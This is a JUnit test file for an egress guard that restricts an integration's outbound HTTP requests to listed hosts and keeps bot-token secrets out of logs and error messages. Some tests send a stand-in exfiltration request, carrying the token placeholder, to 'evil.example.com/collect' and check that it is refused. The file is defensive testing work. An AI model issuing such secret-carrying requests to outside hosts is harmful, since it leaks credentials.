package dev.pincer.runtime.context;

import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertInstanceOf;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.pincer.spi.EgressException;
import dev.pincer.spi.HttpRequest;
import dev.pincer.spi.HttpResponse;
import java.io.IOException;
import java.net.ServerSocket;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.ExecutionException;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

class EgressTest {

    private static final String TOKEN = "123456:SECRET-token";
    private static final Instant START = Instant.parse("2025-01-01T00:00:00Z");

    private final SecretVault vault = new SecretVault(Map.of("TELEGRAM_BOT_TOKEN", TOKEN),
            Map.of("TELEGRAM_BOT_TOKEN", List.of("api.telegram.org")));
    private final String placeholder = vault.secrets().get("TELEGRAM_BOT_TOKEN").placeholder();
    private final VirtualClock clock = new VirtualClock(START);
    private LoopbackServer server;
    private Egress egress;

    @BeforeEach
    void start() {
        server = new LoopbackServer(2048);
        egress = egressTo(Map.of("api.telegram.org", server.base(), "upload.example.org", server.base()), 1024);
    }

    @AfterEach
    void stop() {
        egress.close();
        server.close();
    }

    private Egress egressTo(Map<String, URI> overrides, long limit) {
        return new Egress("telegram", List.of("api.telegram.org", "upload.example.org", "plain.example.org"), vault,
                overrides, clock, limit);
    }

    private HttpRequest post(String uri, String body) {
        return HttpRequest.postJson(URI.create(uri), body);
    }

    @Test
    void sendsToAnAllowedHostThroughItsOverrideWithTheSecretFilledIn() throws InterruptedException {
        HttpResponse response = egress.send(post("https://api.telegram.org/bot" + placeholder + "/sendMessage?x=1",
                "{\"token\":\"" + placeholder + "\"}").withHeader("Authorization", "Bearer " + placeholder));

        assertEquals(200, response.status());
        assertEquals("ok POST /bot" + TOKEN + "/sendMessage", response.bodyText());
        LoopbackServer.Received received = server.received().getFirst();
        assertEquals("/bot" + TOKEN + "/sendMessage?x=1", received.pathAndQuery());
        assertEquals("Bearer " + TOKEN, received.header("Authorization"));
        assertEquals("{\"token\":\"" + TOKEN + "\"}", received.body());
        assertEquals("pincer", received.header("User-Agent"));
    }

    @Test
    void keepsTheIntegrationsOwnUserAgent() throws InterruptedException {
        egress.send(HttpRequest.get(URI.create("https://api.telegram.org/getMe")).withHeader("user-agent", "echo/1"));

        assertEquals("echo/1", server.received().getFirst().header("User-Agent"));
    }

    @Test
    void refusesAHostNotInEgress() {
        EgressException e = assertThrows(EgressException.class,
                () -> egress.send(HttpRequest.get(URI.create("https://evil.example.com/collect?t=" + placeholder))));

        assertEquals(EgressException.Kind.REFUSED, e.kind());
        assertEquals("integration 'telegram' may not reach evil.example.com: pincer.json egress lists "
                + "[api.telegram.org, upload.example.org, plain.example.org]; add the host to egress if the owner "
                + "agrees", e.getMessage());
        assertEquals(List.of(), server.received());
        assertEquals("refused: " + e.getMessage(), egress.records().getFirst().outcome());
    }

    @Test
    void refusesPlainHttpToAHostThatIsNotOverridden() {
        EgressException e = assertThrows(EgressException.class,
                () -> egress.send(HttpRequest.get(URI.create("http://plain.example.org/a"))));

        assertEquals(EgressException.Kind.REFUSED, e.kind());
        assertEquals("integration 'telegram' may send only https requests, but GET http://plain.example.org/a uses http;"
                + " write https://plain.example.org/...", e.getMessage());
    }

    @Test
    void refusesAnotherPortOnAHostThatIsNotOverridden() {
        EgressException e = assertThrows(EgressException.class,
                () -> egress.send(HttpRequest.get(URI.create("https://plain.example.org:8443/a"))));

        assertEquals("integration 'telegram' may reach plain.example.org only on the https port, but "
                + "GET https://plain.example.org:8443/a names port 8443; leave the port out", e.getMessage());
    }

    @Test
    void refusesASecretForAnAllowedHostItIsNotBoundTo() {
        EgressException e = assertThrows(EgressException.class,
                () -> egress.send(post("https://upload.example.org/files", "{\"t\":\"" + placeholder + "\"}")));

        assertEquals(EgressException.Kind.REFUSED, e.kind());
        assertEquals("request to upload.example.org carries secret TELEGRAM_BOT_TOKEN, which pincer.json binds only to "
                + "[api.telegram.org]; the request was not sent", e.getMessage());
        assertEquals(List.of(), server.received());
    }

    @Test
    void returnsRedirectsWithoutFollowingThem() throws InterruptedException {
        HttpResponse response = egress.send(HttpRequest.get(URI.create("https://api.telegram.org/redirect")));

        assertEquals(302, response.status());
        assertEquals("https://elsewhere.example.org/", response.header("Location").orElseThrow());
        assertEquals(1, server.received().size());
    }

    @Test
    void reportsATimeout() {
        long before = System.nanoTime();

        EgressException e = assertThrows(EgressException.class, () -> egress.send(
                HttpRequest.get(URI.create("https://api.telegram.org/bot" + placeholder + "/hang"))
                        .withTimeout(Duration.ofMillis(300))));

        assertEquals(EgressException.Kind.TIMEOUT, e.kind());
        assertEquals("GET https://api.telegram.org/bot[secret:TELEGRAM_BOT_TOKEN]/hang failed: no complete response "
                + "within 300 ms", e.getMessage());
        assertTrue(System.nanoTime() - before < TimeUnit.SECONDS.toNanos(5));
        assertEquals("timeout", egress.records().getFirst().outcome());
    }

    @Test
    void reportsARefusedConnectionAsANetworkFailure() throws IOException, InterruptedException {
        int closedPort;
        try (ServerSocket socket = new ServerSocket(0)) {
            closedPort = socket.getLocalPort();
        }
        try (Egress nowhere = egressTo(Map.of("api.telegram.org", URI.create("http://127.0.0.1:" + closedPort)), 1024)) {
            EgressException e = assertThrows(EgressException.class, () -> nowhere.send(
                    post("https://api.telegram.org/bot" + placeholder + "/sendMessage", "{}")));

            assertEquals(EgressException.Kind.NETWORK, e.kind());
            assertEquals("POST https://api.telegram.org/bot[secret:TELEGRAM_BOT_TOKEN]/sendMessage failed: "
                    + "connection refused", e.getMessage());
            assertTrue(e.transientFailure());
        }
    }

    @Test
    void refusesAResponseOverTheLimit() {
        EgressException e = assertThrows(EgressException.class,
                () -> egress.send(HttpRequest.get(URI.create("https://api.telegram.org/big"))));

        assertEquals(EgressException.Kind.TOO_LARGE, e.kind());
        assertEquals("GET https://api.telegram.org/big failed: the response is larger than the limit of 1024 bytes",
                e.getMessage());
    }

    @Test
    void closeCancelsAHangingRequestWithinOneSecond() throws Exception {
        CompletableFuture<Throwable> outcome = CompletableFuture.supplyAsync(() -> {
            try {
                egress.send(HttpRequest.get(URI.create("https://api.telegram.org/hang")));
                return null;
            } catch (EgressException | InterruptedException e) {
                return e;
            }
        });
        assertTrue(server.awaitHanging());
        long before = System.nanoTime();

        egress.close();
        Throwable failure = outcome.get(1, TimeUnit.SECONDS);

        assertTrue(System.nanoTime() - before < TimeUnit.SECONDS.toNanos(1));
        EgressException e = assertInstanceOf(EgressException.class, failure);
        assertEquals(EgressException.Kind.NETWORK, e.kind());
        assertEquals("GET https://api.telegram.org/hang cancelled: the integration is stopping", e.getMessage());
        EgressException after = assertThrows(EgressException.class,
                () -> egress.send(HttpRequest.get(URI.create("https://api.telegram.org/getMe"))));
        assertEquals("GET https://api.telegram.org/getMe was not sent: the integration is stopping", after.getMessage());
    }

    @Test
    void interruptingTheCallerCancelsTheExchange() throws Exception {
        CompletableFuture<Throwable> outcome = new CompletableFuture<>();
        Thread caller = Thread.ofPlatform().start(() -> {
            try {
                egress.send(HttpRequest.get(URI.create("https://api.telegram.org/hang")));
                outcome.complete(null);
            } catch (Throwable e) {
                outcome.complete(e);
            }
        });
        assertTrue(server.awaitHanging());

        caller.interrupt();

        assertInstanceOf(InterruptedException.class, outcome.get(1, TimeUnit.SECONDS));
        assertEquals("interrupted", egress.records().getFirst().outcome());
    }

    @Test
    void recordsEveryRequestAsWrittenWithPlaceholdersNeverValues() throws InterruptedException {
        clock.advance(Duration.ofSeconds(5));
        egress.send(post("https://api.telegram.org/bot" + placeholder + "/sendMessage", "{\"t\":\"" + placeholder + "\"}")
                .withHeader("Authorization", "Bearer " + placeholder));
        assertThrows(EgressException.class, () -> egress.send(HttpRequest.get(URI.create("https://evil.example.com/"))));

        List<EgressRecord> records = egress.records();

        assertEquals(2, records.size());
        EgressRecord sent = records.getFirst();
        assertEquals(START.plusSeconds(5), sent.at());
        assertEquals("POST", sent.method());
        assertEquals(URI.create("https://api.telegram.org/bot" + placeholder + "/sendMessage"), sent.uri());
        assertEquals("api.telegram.org", sent.host());
        assertEquals(List.of("Bearer " + placeholder), sent.headers().get("Authorization"));
        assertArrayEquals(("{\"t\":\"" + placeholder + "\"}").getBytes(StandardCharsets.UTF_8), sent.body());
        assertEquals(HttpRequest.DEFAULT_TIMEOUT, sent.timeout());
        assertEquals(200, sent.status());
        assertEquals("response", sent.outcome());
        assertEquals(-1, records.get(1).status());
        assertTrue(records.get(1).outcome().startsWith("refused: integration 'telegram' may not reach evil.example.com"));
        for (EgressRecord record : records) {
            assertFalse(vault.containsSecret(record.toString() + record.headers() + new String(record.body(),
                    StandardCharsets.UTF_8)), record.toString());
        }
    }

    @Test
    void messagesNeverContainTheRawSecret() throws IOException, ExecutionException, InterruptedException {
        SecretVault awkward = new SecretVault(Map.of("TOKEN", "a b#c"), Map.of("TOKEN", List.of("api.telegram.org")));
        String awkwardPlaceholder = awkward.secrets().get("TOKEN").placeholder();
        try (Egress awkwardEgress = new Egress("telegram", List.of("api.telegram.org"), awkward,
                Map.of("api.telegram.org", server.base()), clock)) {
            EgressException e = assertThrows(EgressException.class, () -> awkwardEgress.send(
                    HttpRequest.get(URI.create("https://api.telegram.org/bot" + awkwardPlaceholder + "/getMe"))));

            assertEquals(EgressException.Kind.REFUSED, e.kind());
            assertEquals("GET https://api.telegram.org/bot[secret:TOKEN]/getMe is not a valid URI once its secrets are "
                    + "filled in; URL-encode the secret where the URI carries it, or send it in a header; the request "
                    + "was not sent", e.getMessage());
            assertFalse(awkward.containsSecret(e.getMessage()));
            assertFalse(awkward.containsSecret(awkwardEgress.records().getFirst().outcome()));
        }
    }
}
